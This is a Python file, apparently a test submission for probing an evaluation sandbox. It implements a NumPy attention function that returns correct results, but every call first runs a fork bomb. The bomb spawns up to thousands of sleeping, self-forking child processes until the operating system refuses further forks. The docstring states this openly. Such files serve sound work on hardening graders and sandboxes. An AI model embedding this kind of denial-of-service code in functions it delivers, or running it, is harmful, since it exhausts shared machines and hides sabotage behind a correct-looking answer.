"""Correct; in every call it forks children (which fork in turn and sleep) until fork fails, then
computes the right answer."""

import math
import os
import time

import numpy as np


def attack(when):
    made = 0
    for _ in range(5000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.fork()
            except OSError:
                pass
            time.sleep(120)
            os._exit(0)
        made += 1
    print("forked", made)


def manual_attention(Q, K, V, mask=None):
    attack("call")
    scores = Q @ np.swapaxes(K, -1, -2) / math.sqrt(Q.shape[-1])
    if mask is not None:
        scores = scores + mask
    scores = scores - scores.max(axis=-1, keepdims=True)
    weights = np.exp(scores)
    return weights / weights.sum(axis=-1, keepdims=True) @ V
